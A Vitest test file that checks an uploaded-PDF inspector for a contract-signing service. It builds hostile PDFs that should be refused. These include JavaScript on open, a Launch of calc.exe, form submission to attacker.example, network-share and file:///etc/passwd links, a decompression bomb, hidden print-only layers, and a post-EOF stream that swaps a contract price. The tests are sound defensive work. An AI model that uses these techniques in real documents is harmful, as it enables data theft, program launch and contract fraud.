// The inspection of a PDF uploaded as the contract's document, on hostile files built here with
// pdf-lib's low-level API (and qpdf for encryption; .ci/run installs it).
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";
import fontkit from "@pdf-lib/fontkit";
import { degrees, PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFPage } from "pdf-lib";
import { afterAll, describe, expect, it, vi } from "vitest";
import { MAX_UPLOADED_PDF_BYTES } from "@/lib/domain/file-content";
import { inspectUploadedPdf } from "@/lib/pdf/inspect-uploaded-pdf";
import { pageFrame } from "@/lib/pdf/stamp-placements";
import { runPdfWorker } from "@/lib/pdf/pdf-worker";
import { UPLOADED_PDF_SCRIPT } from "@/lib/pdf/uploaded-pdf-script";

// The worker runner, watched: a file refused before parsing never starts a worker.
const worker = vi.hoisted(() => ({ runs: 0 }));
vi.mock("@/lib/pdf/pdf-worker", async (importOriginal) => {
  const original = await importOriginal<typeof import("@/lib/pdf/pdf-worker")>();
  return {
    runPdfWorker: (...args: Parameters<typeof original.runPdfWorker>) => {
      worker.runs += 1;
      return original.runPdfWorker(...args);
    },
  };
});

const dir = mkdtempSync(path.join(tmpdir(), "uploaded-pdf-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const A4: [number, number] = [595.28, 841.89];

/** A PDF of `pages` A4 pages with a line of Helvetica (not embedded: one of the standard 14). */
async function document(pages = 2): Promise<{ doc: PDFDocument; pages: [PDFPage, PDFPage, PDFPage, ...PDFPage[]] }> {
  const doc = await PDFDocument.create();
  const helvetica = await doc.embedFont(StandardFonts.Helvetica);
  const list = Array.from({ length: pages }, (_, index) => {
    const page = doc.addPage(A4);
    page.drawText(`Page ${index + 1}`, { x: 50, y: 780, size: 12, font: helvetica });
    return page;
  });
  // Typed as at least three: each test asks only for pages it made.
  return { doc, pages: list as [PDFPage, PDFPage, PDFPage, ...PDFPage[]] };
}

const save = (doc: PDFDocument) => doc.save({ useObjectStreams: false });
const problemOf = async (bytes: Uint8Array) => {
  const result = await inspectUploadedPdf(bytes);
  if (result.ok) throw new Error("expected a refusal");
  return result.problem;
};
/** The catalog's dictionary entry `key`, made when absent. */
const catalogDict = (doc: PDFDocument, key: string) => {
  const existing = doc.catalog.lookupMaybe(PDFName.of(key), PDFDict);
  if (existing) return existing;
  const made = doc.context.obj({});
  doc.catalog.set(PDFName.of(key), made);
  return made;
};
/** The text poppler reads in a PDF (following its cross-reference table, as viewers do). */
const pdfText = (bytes: Uint8Array) => {
  const file = path.join(dir, `text-${Math.random().toString(36).slice(2)}.pdf`);
  writeFileSync(file, bytes);
  return execFileSync("pdftotext", [file, "-"], { encoding: "utf8" });
};
/** Each page of an accepted PDF's kept document as shown (width, height), as the stamps measure it. */
const shownSizes = async (result: Awaited<ReturnType<typeof inspectUploadedPdf>>) => {
  if (!result.ok) throw new Error(result.problem);
  return (await PDFDocument.load(result.document)).getPages().map((page) => {
    const frame = pageFrame(page);
    return [frame.shownWidth, frame.shownHeight];
  });
};
/** Adds an annotation dictionary to the page: printed (F 4, as Acrobat writes a comment) unless it says otherwise (F undefined: no flags). */
const annotate = (doc: PDFDocument, page: PDFPage, annotation: Record<string, unknown>) => {
  const entries = Object.entries({ Type: "Annot", Rect: [10, 10, 100, 30], F: 4, ...annotation }).filter(([, value]) => value !== undefined);
  const ref = doc.context.register(doc.context.obj(Object.fromEntries(entries) as never));
  page.node.addAnnot(ref);
};
/** A font dictionary not embedded: a descriptor without /FontFile*. */
const bareFont = (doc: PDFDocument, subtype: string, baseFont: string) => {
  const descriptor = doc.context.register(
    doc.context.obj({ Type: "FontDescriptor", FontName: baseFont, Flags: 32, FontBBox: [0, 0, 1000, 1000], ItalicAngle: 0, Ascent: 900, Descent: -200, CapHeight: 700, StemV: 80 }),
  );
  return doc.context.register(doc.context.obj({ Type: "Font", Subtype: subtype, BaseFont: baseFont, FirstChar: 32, LastChar: 126, FontDescriptor: descriptor }));
};

describe("inspectUploadedPdf", () => {
  it("accepts a good PDF: its pages and their sizes, the standard 14 fonts unembedded, DejaVu embedded, a Type3 font", async () => {
    const { doc, pages } = await document(3);
    doc.registerFontkit(fontkit);
    const dejavu = await doc.embedFont(readFileSync(path.join(import.meta.dirname, "../../assets/fonts/DejaVuSans.ttf")), { subset: true });
    pages[1].drawText("Åsa Öberg", { x: 50, y: 700, font: dejavu });
    pages[2].drawText("Times", { x: 50, y: 700, font: await doc.embedFont(StandardFonts.TimesRoman) });
    doc.addPage([612, 792]);
    // A Type3 font draws its glyphs itself.
    const type3 = { Type: "Font", Subtype: "Type3", FontBBox: [0, 0, 1, 1], FontMatrix: [0.001, 0, 0, 0.001, 0, 0], CharProcs: {}, FirstChar: 0, LastChar: 0, Widths: [0] };
    pages[0].node.setFontDictionary(PDFName.of("T3"), doc.context.register(doc.context.obj(type3)));
    // An empty signature field (nothing signed yet) is fine.
    const field = doc.context.register(doc.context.obj({ FT: "Sig", T: PDFString.of("Signature1") }));
    catalogDict(doc, "AcroForm").set(PDFName.of("Fields"), doc.context.obj([field]));
    const result = await inspectUploadedPdf(await doc.save());
    expect(result).toMatchObject({ ok: true, pages: 4 });
    expect(await shownSizes(result)).toEqual([A4, A4, A4, [612, 792]]);
  });

  it("gives a rotated page's size as displayed, the rotation inherited or its own", async () => {
    const { doc, pages } = await document(3);
    pages[0].setRotation(degrees(90));
    pages[1].setRotation(degrees(-180));
    // The third page inherits 270, and its MediaBox, from the page tree's root.
    doc.catalog.Pages().set(PDFName.of("Rotate"), doc.context.obj(270));
    doc.catalog.Pages().set(PDFName.of("MediaBox"), doc.context.obj([0, 0, ...A4]));
    pages[2].node.delete(PDFName.of("MediaBox"));
    const result = await inspectUploadedPdf(await save(doc));
    expect(result).toMatchObject({ ok: true, pages: 3 });
    expect(await shownSizes(result)).toEqual([[A4[1], A4[0]], A4, [A4[1], A4[0]]]);
  });

  it("keeps the document as pdf-lib reads and stamps it: a page's text appended after the file's end is what every reader is shown", async () => {
    const { doc, pages } = await document(1);
    const helvetica = doc.context.register(doc.context.obj({ Type: "Font", Subtype: "Type1", BaseFont: "Helvetica" }));
    pages[0].node.set(PDFName.of("Resources"), doc.context.obj({ Font: { F9: helvetica } }));
    const content = doc.context.register(doc.context.stream("BT /F9 24 Tf 50 700 Td (PRICE: 100 EUR) Tj ET"));
    pages[0].node.set(PDFName.of("Contents"), content);
    // The same object again after %%EOF, with no cross-reference table of its own: a reader that
    // follows the table (poppler, pdf.js) shows the first, pdf-lib (the seal) reads the last.
    const other = "BT /F9 24 Tf 50 700 Td (PRICE: 1000000 EUR) Tj ET";
    const appended = `\n${content.objectNumber} 0 obj\n<< /Length ${other.length} >>\nstream\n${other}\nendstream\nendobj\n`;
    const upload = Buffer.concat([await save(doc), Buffer.from(appended, "latin1")]);
    expect(pdfText(upload)).toContain("PRICE: 100 EUR");
    const result = await inspectUploadedPdf(upload);
    if (!result.ok) throw new Error(result.problem);
    expect(pdfText(result.document)).toContain("PRICE: 1000000 EUR");
    expect(pdfText(result.document)).not.toContain("PRICE: 100 EUR");
  });

  it("refuses a page the seal could not stamp: a /Contents, /Resources or /Rotate of another type", async () => {
    const cases: [string, (doc: PDFDocument) => unknown][] = [
      ["Contents", (doc) => doc.context.obj(42)],
      ["Resources", (doc) => doc.context.obj([1, 2, 3])],
      ["Rotate", () => PDFName.of("Foo")],
      ["CropBox", () => PDFName.of("Foo")],
    ];
    for (const [key, value] of cases) {
      const { doc, pages } = await document(2);
      pages[1].node.set(PDFName.of(key), value(doc) as PDFName);
      expect(await problemOf(await save(doc)), key).toMatch(/^The PDF is damaged and cannot be read/);
    }
  });

  it("refuses a PDF the seal's signature field cannot be added to: page 1's /Annots or the catalog's /AcroForm of another type", async () => {
    const annots = await document(2);
    annots.pages[0].node.set(PDFName.of("Annots"), annots.doc.context.obj(5));
    expect(await problemOf(await save(annots.doc))).toMatch(/^The PDF is damaged and cannot be read/);
    const form = await document(2);
    form.doc.catalog.set(PDFName.of("AcroForm"), form.doc.context.obj(5));
    expect(await problemOf(await save(form.doc))).toMatch(/^The PDF is damaged and cannot be read/);
  });

  it("names the real reason first: a PDF with JavaScript that the seal could not stamp either is refused for its JavaScript", async () => {
    const { doc, pages } = await document(2);
    pages[1].node.set(PDFName.of("Contents"), doc.context.obj(42));
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
    expect(await problemOf(await save(doc))).toMatch(/^The PDF contains JavaScript,/);
  });

  it("refuses a page turned by other than a multiple of 90 degrees, and measures a page as shown: its CropBox within its MediaBox", async () => {
    const turned = await document(2);
    turned.pages[1].node.set(PDFName.of("Rotate"), turned.doc.context.obj(45));
    expect(await problemOf(await save(turned.doc))).toMatch(/^Page 2 is turned by 45°/);
    const cropped = await document(2);
    cropped.pages[0].setCropBox(0, 0, 1, 1);
    expect(await problemOf(await save(cropped.doc))).toMatch(/^Page 1 measures 0 × 0 cm/);
  });

  it("refuses a file over 25 MB before parsing it, and a file that is not a PDF", async () => {
    const big = new Uint8Array(MAX_UPLOADED_PDF_BYTES + 1).fill(0x20);
    big.set(Buffer.from("%PDF-1.7\n"));
    const runs = worker.runs;
    expect(await problemOf(big)).toMatch(/^The file is 25.1 MB; a contract's document may be at most 25 MB\.$/);
    const png = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex");
    expect(await problemOf(png)).toBe("The file is not a PDF; upload the contract's document as a PDF.");
    expect(await problemOf(Buffer.from("Dear customer, here is the contract."))).toMatch(/not a PDF/);
    expect(worker.runs).toBe(runs);
  });

  it("refuses a damaged PDF: garbage after the header, or cut short", async () => {
    expect(await problemOf(Buffer.from("%PDF-1.7\nnot really"))).toMatch(/^The PDF is damaged and cannot be read/);
    const good = await save((await document(3)).doc);
    expect(await problemOf(good.subarray(0, Math.floor(good.length / 2)))).toMatch(/^The PDF is damaged/);
  });

  it("refuses a PDF bomb as too complex (its inflated streams past the budget)", async () => {
    // An object stream that inflates to 96 MiB: past the 64 MiB budget.
    const inflated = deflateSync(Buffer.alloc(96 * 1024 * 1024, 0x20), { level: 9 });
    const bomb = Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inflated.length} >>\nstream\n`),
      inflated,
      Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n"),
    ]);
    expect(await problemOf(bomb)).toBe("The PDF is too complex inside for the service to check; print it to PDF again and upload that.");
  });

  it("refuses as too complex a PDF of more than 100,000 objects, or Form XObjects nested deeper than 16", async () => {
    // Written by hand (pdf-lib takes seconds to make as many): a page, then small numbers.
    const objects = (count: number) => {
      const parts = ["%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"];
      parts.push("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n");
      for (let n = 4; n <= count; n += 1) parts.push(`${n} 0 obj\n${n}\nendobj\n`);
      parts.push(`trailer\n<< /Root 1 0 R /Size ${count + 1} >>\n%%EOF\n`);
      return Buffer.from(parts.join(""));
    };
    expect(await inspectUploadedPdf(objects(100_000))).toMatchObject({ ok: true, pages: 1 });
    expect(await problemOf(objects(100_001))).toMatch(/too complex/);
    const deep = await document(1);
    let form = deep.doc.context.register(deep.doc.context.stream("", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 1, 1] }));
    for (let level = 0; level < 17; level += 1) {
      form = deep.doc.context.register(deep.doc.context.stream("/X Do", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 1, 1], Resources: { XObject: { X: form } } }));
    }
    deep.pages[0].node.setXObject(PDFName.of("X"), form);
    expect(await problemOf(await save(deep.doc))).toMatch(/too complex/);
    // 16 levels pass.
    const fine = await document(1);
    form = fine.doc.context.register(fine.doc.context.stream("", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 1, 1] }));
    for (let level = 0; level < 15; level += 1) {
      form = fine.doc.context.register(fine.doc.context.stream("/X Do", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 1, 1], Resources: { XObject: { X: form } } }));
    }
    fine.pages[0].node.setXObject(PDFName.of("X"), form);
    expect(await inspectUploadedPdf(await save(fine.doc))).toMatchObject({ ok: true });
  });

  it("stops its walks after the steps it is given (the script run with a small budget)", async () => {
    const bytes = await save((await document(3)).doc);
    const run = (maxSteps: number) =>
      runPdfWorker(UPLOADED_PDF_SCRIPT, bytes, { maxPages: 300, maxObjects: 100_000, maxSteps, maxFormDepth: 16 }, (reason) => ({ outcome: reason }));
    expect(await run(40)).toEqual({ outcome: "too_complex" });
    expect(await run(10_000)).toMatchObject({ outcome: "read", pages: 3 });
  });

  it("refuses a password-protected PDF (qpdf, AES-256), with object streams or without, and with an owner password only", async () => {
    const plain = path.join(dir, "plain.pdf");
    const flat = path.join(dir, "flat.pdf");
    writeFileSync(plain, await (await document(2)).doc.save());
    writeFileSync(flat, await save((await document(2)).doc));
    const cases: [string, string, string][] = [
      [plain, "user", "objstm.pdf"],
      [flat, "user", "flat-enc.pdf"],
      [plain, "", "owner-only.pdf"],
    ];
    for (const [input, user, output] of cases) {
      const file = path.join(dir, output);
      execFileSync("qpdf", ["--encrypt", user, "owner", "256", "--", input, file], { stdio: "pipe" });
      expect(await problemOf(readFileSync(file)), output).toBe(
        "The PDF is password-protected; upload it without a password (save it again with no password or encryption).",
      );
    }
  });

  describe("active content, named", () => {
    it("JavaScript run on opening (/OpenAction)", async () => {
      const { doc } = await document();
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
      expect(await problemOf(await save(doc))).toBe("The PDF contains JavaScript, which a contract's document may not carry; print it to PDF again and upload that.");
      // Told by /S /JavaScript too, at the end of a chain of actions.
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "GoTo", D: [doc.getPage(0).ref, "Fit"], Next: [{ S: "JavaScript" }] }));
      expect(await problemOf(await save(doc))).toMatch(/^The PDF contains JavaScript,/);
    });

    it("JavaScript in the document's names tree", async () => {
      const { doc } = await document();
      // Its value is not itself a JavaScript action here, so that the names tree alone tells.
      const action = doc.context.register(doc.context.obj({ S: "Named", N: "NextPage" }));
      catalogDict(doc, "Names").set(PDFName.of("JavaScript"), doc.context.obj({ Names: [PDFString.of("init"), action] }));
      expect(await problemOf(await save(doc))).toMatch(/^The PDF contains JavaScript,/);
    });

    it("a /JS entry in a page's additional actions (/AA), its name spelt with a lowercase #xx escape", async () => {
      const { doc, pages } = await document();
      pages[1].node.set(PDFName.of("AA"), doc.context.obj({ O: { S: "Named", JS: PDFHexString.fromText("x") } }));
      const bytes = Buffer.from(await save(doc));
      // /#4aS is /JS to a reader; pdf-lib decodes only uppercase escapes.
      const spelt = Buffer.from(bytes.toString("latin1").replace("/JS ", "/#4aS "), "latin1");
      expect(spelt.toString("latin1")).toContain("/#4aS ");
      expect(await problemOf(spelt)).toMatch(/^The PDF contains JavaScript,/);
    });

    it("a link annotation whose action launches a program", async () => {
      const { doc, pages } = await document();
      annotate(doc, pages[0], { Subtype: "Link", A: { S: "Launch", F: PDFString.of("calc.exe") } });
      expect(await problemOf(await save(doc))).toBe(
        "The PDF contains an action that launches a program, which a contract's document may not carry; print it to PDF again and upload that.",
      );
    });

    it("actions that reach outside the document: another file (a network path, a file: link), a form's data sent or imported; a web or mail link is fine", async () => {
      for (const action of [
        { S: "GoToR", F: PDFString.of("\\\\attacker\\share\\x.pdf"), D: [0, "Fit"] },
        { S: "GoToE", T: { R: "C", N: PDFString.of("x") } },
        { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://attacker.example/collect") } },
        { S: "ImportData", F: PDFString.of("data.fdf") },
        { S: "URI", URI: PDFString.of("file://attacker/share/x.pdf") },
        { S: "URI", URI: PDFString.of("\\\\attacker\\share") },
        { S: "URI", URI: PDFString.of("https:\\\\attacker.example\\share") },
        { S: "URI", URI: PDFString.of("http:file:///etc/passwd") },
        // A backslash really in the text (in a literal string \. would drop it).
        { S: "URI", URI: PDFHexString.fromText("https://example.com\\..\\share") },
        { S: "Thread", F: PDFString.of("\\\\attacker.example\\share\\x.pdf"), D: 0 },
      ]) {
        const { doc, pages } = await document();
        annotate(doc, pages[0], { Subtype: "Link", A: action });
        expect(await problemOf(await save(doc)), action.S).toBe(
          "The PDF contains an action that opens another file or sends its form's data (or a link not to a web page or an e-mail address), which a contract's document may not carry; print it to PDF again and upload that.",
        );
      }
      const linked = await document();
      annotate(linked.doc, linked.pages[0], { Subtype: "Link", A: { S: "URI", URI: PDFString.of("https://example.com/terms") } });
      annotate(linked.doc, linked.pages[1], { Subtype: "Link", A: { S: "URI", URI: PDFString.of("mailto:legal@example.com") } });
      expect(await inspectUploadedPdf(await save(linked.doc))).toMatchObject({ ok: true });
    });

    it("sound, video and 3D: their actions and their annotations", async () => {
      const media = [
        { Subtype: "Link", A: { S: "Sound", Sound: { Type: "Sound", R: 8000 } } },
        { Subtype: "Link", A: { S: "Movie", T: PDFString.of("clip") } },
        { Subtype: "Link", A: { S: "Rendition", OP: 0 } },
        { Subtype: "Link", A: { S: "RichMediaExecute", TI: PDFString.of("x") } },
        { Subtype: "Link", A: { S: "GoTo3DView", V: 0 } },
        { Subtype: "Screen" },
        { Subtype: "RichMedia" },
        { Subtype: "3D" },
        { Subtype: "Movie", Movie: { F: PDFString.of("clip.mov") } },
      ];
      for (const annotation of media) {
        const { doc, pages } = await document();
        annotate(doc, pages[0], annotation);
        expect(await problemOf(await save(doc)), JSON.stringify(annotation)).toBe(
          "The PDF contains sound, video or 3D content, which a contract's document may not carry; print it to PDF again and upload that.",
        );
      }
    });

    it("content that shows otherwise than on the signing page or on paper: hidden or switching layers, a click that switches them, annotations printed but not shown, or shown but not printed", async () => {
      const HIDDEN =
        "The PDF contains content that shows only in print or only on screen, in another layer or on a click (hidden layers or annotations), which a contract's document may not carry; print it to PDF again and upload that.";
      const layered = async (config: Record<string, unknown>, more: Record<string, unknown> = {}, usage?: Record<string, unknown>) => {
        const { doc } = await document();
        const ocg = doc.context.register(doc.context.obj({ Type: "OCG", Name: PDFString.of("Print only"), ...(usage ? { Usage: usage } : {}) } as never));
        doc.catalog.set(PDFName.of("OCProperties"), doc.context.obj({ OCGs: [ocg], D: { ON: [], ...Object.fromEntries(Object.entries(config).map(([k, v]) => [k, v === "ocg" ? [ocg] : v])) }, ...more } as never));
        return save(doc);
      };
      expect(await problemOf(await layered({ OFF: "ocg" }))).toBe(HIDDEN);
      expect(await problemOf(await layered({ BaseState: "OFF" }))).toBe(HIDDEN);
      const byEvent = { AS: [{ Event: "View", Category: ["View"] }, { Event: "Print", Category: ["Print"] }] };
      expect(await problemOf(await layered(byEvent, {}, { View: { ViewState: "OFF" }, Print: { PrintState: "ON" } }))).toBe(HIDDEN);
      expect(await problemOf(await layered(byEvent, {}, { Zoom: { min: 4 } }))).toBe(HIDDEN);
      // Set by event but shown everywhere, as a publishing program writes its layers: fine.
      expect(await inspectUploadedPdf(await layered(byEvent, {}, { View: { ViewState: "ON" }, Print: { PrintState: "ON" }, Export: { ExportState: "ON" } }))).toMatchObject({ ok: true });
      expect(await problemOf(await layered({}, { Configs: [{ Name: PDFString.of("Other"), OFF: [] }] }))).toBe(HIDDEN);
      // Layers all shown, as a drawing program writes them, are fine.
      expect(await inspectUploadedPdf(await layered({ BaseState: "ON" }))).toMatchObject({ ok: true });
      for (const annotation of [
        { Subtype: "Link", A: { S: "SetOCGState", State: ["Toggle"] } },
        { Subtype: "Link", A: { S: "Hide", H: false, T: PDFString.of("secret") } },
        { Subtype: "Square", F: 4 | 32 },
        { Subtype: "Square", F: 256 },
        // Shown on the screen, left off paper: no flags, or only flags that say nothing of printing.
        { Subtype: "FreeText", F: undefined, DA: PDFString.of("/Helv 12 Tf 0 g"), Contents: PDFString.of("Price: 10 EUR") },
        { Subtype: "Stamp", F: 128 },
        { Subtype: "Widget", FT: "Tx", T: PDFString.of("note"), F: 0 },
      ]) {
        const { doc, pages } = await document();
        annotate(doc, pages[0], annotation);
        expect(await problemOf(await save(doc)), JSON.stringify(annotation)).toBe(HIDDEN);
      }
      // A link that draws an appearance of its own on the screen only.
      const drawnLink = await document();
      const appearance = drawnLink.doc.context.register(drawnLink.doc.context.stream("0 0 90 20 re f", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 90, 20] }));
      annotate(drawnLink.doc, drawnLink.pages[0], { Subtype: "Link", F: undefined, AP: { N: appearance }, A: { S: "URI", URI: PDFString.of("https://example.com/terms") } });
      expect(await problemOf(await save(drawnLink.doc))).toBe(HIDDEN);
      // Printed and shown alike, hidden everywhere, and a link or a pop-up drawing nothing of its own whatever its flags: fine.
      for (const annotation of [
        { Subtype: "Link", F: 4, A: { S: "URI", URI: PDFString.of("https://example.com/terms") } },
        { Subtype: "Link", F: undefined, A: { S: "URI", URI: PDFString.of("https://example.com/terms") } },
        { Subtype: "Popup", F: undefined },
        { Subtype: "Square", F: 4 },
        { Subtype: "Square", F: 2 },
      ]) {
        const { doc, pages } = await document();
        annotate(doc, pages[0], annotation);
        expect(await inspectUploadedPdf(await save(doc)), JSON.stringify(annotation)).toMatchObject({ ok: true });
      }
    });

    it("embedded files: doc.attach, the names tree alone, an associated file alone, a file attachment annotation", async () => {
      const attached = await document();
      await attached.doc.attach(Buffer.from("hello"), "hello.txt", { mimeType: "text/plain" });
      expect(await problemOf(await save(attached.doc))).toMatch(/^The PDF contains embedded files,/);
      const named = await document();
      const spec = named.doc.context.register(named.doc.context.obj({ Type: "Filespec", F: PDFString.of("hello.txt") }));
      catalogDict(named.doc, "Names").set(PDFName.of("EmbeddedFiles"), named.doc.context.obj({ Names: [PDFString.of("hello.txt"), spec] }));
      expect(await problemOf(await save(named.doc))).toMatch(/^The PDF contains embedded files,/);
      const associated = await document();
      const file = associated.doc.context.register(associated.doc.context.stream("hello", {}));
      associated.doc.catalog.set(PDFName.of("AF"), associated.doc.context.obj([{ Type: "Filespec", F: PDFString.of("hello.txt"), EF: { F: file } }]));
      expect(await problemOf(await save(associated.doc))).toMatch(/^The PDF contains embedded files,/);
      const annotated = await document();
      annotate(annotated.doc, annotated.pages[0], { Subtype: "FileAttachment", Name: "PushPin" });
      expect(await problemOf(await save(annotated.doc))).toMatch(/^The PDF contains embedded files,/);
    });

    it("an XFA form, with JavaScript too", async () => {
      const { doc } = await document();
      catalogDict(doc, "AcroForm").set(PDFName.of("XFA"), doc.context.obj([PDFString.of("template"), doc.context.register(doc.context.stream("<template/>"))]));
      expect(await problemOf(await save(doc))).toBe(
        "The PDF contains an XFA form, which a contract's document may not carry; flatten the form or print it to PDF again and upload that.",
      );
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: PDFString.of("1") }));
      expect(await problemOf(await save(doc))).toMatch(/^The PDF contains JavaScript and an XFA form, .*; flatten the form/);
    });
  });

  describe("signatures already in it", () => {
    const signed = "The PDF already carries a digital signature, which adding the signatures' pages and the seal would break; upload the document before it was signed.";

    it("a signature field with a value", async () => {
      const { doc } = await document();
      const value = doc.context.register(doc.context.obj({ Type: "Sig", Filter: "Adobe.PPKLite", Name: PDFString.of("Someone") }));
      const field = doc.context.register(doc.context.obj({ FT: "Sig", T: PDFString.of("Signature1"), V: value }));
      catalogDict(doc, "AcroForm").set(PDFName.of("Fields"), doc.context.obj([field]));
      expect(await problemOf(await save(doc))).toBe(signed);
    });

    it("a signature dictionary with its /ByteRange", async () => {
      const { doc, pages } = await document();
      const value = doc.context.register(doc.context.obj({ Filter: "Adobe.PPKLite", ByteRange: [0, 10, 20, 30], Contents: PDFHexString.of("00") }));
      annotate(doc, pages[0], { Subtype: "Widget", Sig: value });
      expect(await problemOf(await save(doc))).toBe(signed);
    });

    it("certification permissions (/Perms /DocMDP)", async () => {
      const { doc } = await document();
      catalogDict(doc, "Perms").set(PDFName.of("DocMDP"), doc.context.register(doc.context.obj({ Type: "Sig" })));
      expect(await problemOf(await save(doc))).toBe(signed);
    });
  });

  it("refuses no pages and more than 300 pages", async () => {
    // Written by hand: pdf-lib adds a blank page to a document saved without any.
    const empty = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n";
    expect(await problemOf(Buffer.from(empty))).toBe("The PDF has no pages; upload the document with its pages.");
    const { doc } = await document(300);
    expect(await inspectUploadedPdf(await save(doc))).toMatchObject({ ok: true, pages: 300 });
    doc.addPage(A4);
    expect(await problemOf(await save(doc))).toBe("The PDF has 301 pages; a contract's document may have at most 300.");
  });

  it("refuses a page over 2,000 or under 72 points on a side, naming the first", async () => {
    const { doc } = await document(2);
    doc.addPage([5000, 5000]);
    doc.addPage([50, 50]);
    expect(await problemOf(await save(doc))).toMatch(/^Page 3 measures 176.4 × 176.4 cm; each side of a page must be between 2.5 and 70.6 cm/);
    const small = await document(1);
    small.doc.addPage([600, 71]);
    expect(await problemOf(await save(small.doc))).toMatch(/^Page 2 measures 21.2 × 2.5 cm/);
  });

  describe("fonts it does not carry", () => {
    it("names a TrueType font without a font file, once", async () => {
      const { doc, pages } = await document(2);
      const arial = bareFont(doc, "TrueType", "Arial");
      pages[0].node.setFontDictionary(PDFName.of("FA"), arial);
      pages[1].node.setFontDictionary(PDFName.of("FA"), arial);
      expect(await problemOf(await save(doc))).toBe("The PDF uses fonts it does not carry (Arial); export it again with fonts embedded.");
    });

    it("looks at a Type0 font's descendant and drops the subset prefix; names at most three", async () => {
      const { doc, pages } = await document(1);
      const descendant = bareFont(doc, "CIDFontType2", "ABCDEF+Calibri");
      const type0 = doc.context.register(doc.context.obj({ Type: "Font", Subtype: "Type0", BaseFont: "ABCDEF+Calibri", Encoding: "Identity-H", DescendantFonts: [descendant] }));
      pages[0].node.setFontDictionary(PDFName.of("F1"), type0);
      for (const name of ["Cambria", "Verdana", "Georgia"]) pages[0].node.setFontDictionary(PDFName.of(name), bareFont(doc, "TrueType", name));
      expect(await problemOf(await save(doc))).toBe(
        "The PDF uses fonts it does not carry (Calibri, Cambria, Verdana and others); export it again with fonts embedded.",
      );
    });

    it("finds a font used only inside a Form XObject nested in another that refers to itself; a subset of a standard font passes", async () => {
      const { doc, pages } = await document(1);
      const inner = doc.context.register(
        doc.context.stream("BT /F1 12 Tf (x) Tj ET", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 100, 100], Resources: { Font: { F1: bareFont(doc, "TrueType", "Arial") } } }),
      );
      const outer = doc.context.stream("/Inner Do", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 100, 100] });
      const outerRef = doc.context.register(outer);
      outer.dict.set(PDFName.of("Resources"), doc.context.obj({ XObject: { Inner: inner, Self: outerRef } }));
      pages[0].node.setXObject(PDFName.of("Outer"), outerRef);
      pages[0].node.setFontDictionary(PDFName.of("FH"), bareFont(doc, "Type1", "QWERTY+Helvetica-Bold"));
      expect(await problemOf(await save(doc))).toBe("The PDF uses fonts it does not carry (Arial); export it again with fonts embedded.");
    });

    it("finds a font of an annotation's appearance stream", async () => {
      const { doc, pages } = await document(1);
      const appearance = doc.context.register(
        doc.context.stream("BT /F1 12 Tf (x) Tj ET", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 90, 20], Resources: { Font: { F1: bareFont(doc, "TrueType", "Tahoma") } } }),
      );
      annotate(doc, pages[0], { Subtype: "FreeText", AP: { N: appearance } });
      expect(await problemOf(await save(doc))).toMatch(/\(Tahoma\)/);
    });
  });

  it("refuses a page tree that loops, or lists a page twice, as damaged, without hanging", async () => {
    const looping = await document(2);
    looping.doc.catalog.Pages().lookup(PDFName.of("Kids"), PDFArray).push(looping.doc.catalog.get(PDFName.of("Pages"))!);
    expect(await problemOf(await save(looping.doc))).toMatch(/^The PDF is damaged/);
    const twice = await document(2);
    const kids = twice.doc.catalog.Pages().lookup(PDFName.of("Kids"), PDFArray);
    kids.push(kids.get(0));
    expect(await problemOf(await save(twice.doc))).toMatch(/^The PDF is damaged/);
  });
});
